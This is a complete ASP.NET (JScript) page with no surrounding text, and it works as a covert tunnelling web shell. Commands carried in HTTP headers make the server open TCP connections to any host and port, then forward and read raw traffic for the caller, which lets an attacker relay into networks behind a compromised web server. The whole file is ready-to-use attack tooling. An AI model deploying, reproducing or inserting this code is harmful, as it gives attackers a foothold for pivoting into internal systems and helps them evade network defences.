<%@ Page Language="JScript" EnableSessionState="True" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
function Page_Load() {
    var cmd = Request.Headers["X-Cmd"];
    if (cmd == "CONNECT") {
        var sk = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        sk.Connect(Request.Headers["X-Target"], int(Request.Headers["X-Port"]));
        Session["sk"] = sk;
    } else if (cmd == "FORWARD") {
        Session["sk"].Send(Request.BinaryRead(Request.ContentLength));
    } else if (cmd == "READ") {
        var buf : byte[] = new byte[8192];
        var n = Session["sk"].Available > 0 ? Session["sk"].Receive(buf) : 0;
        Response.OutputStream.Write(buf, 0, n);
    } else if (cmd == "DISCONNECT") {
        Session["sk"].Close();
        Session.Remove("sk");
    }
}
</script>
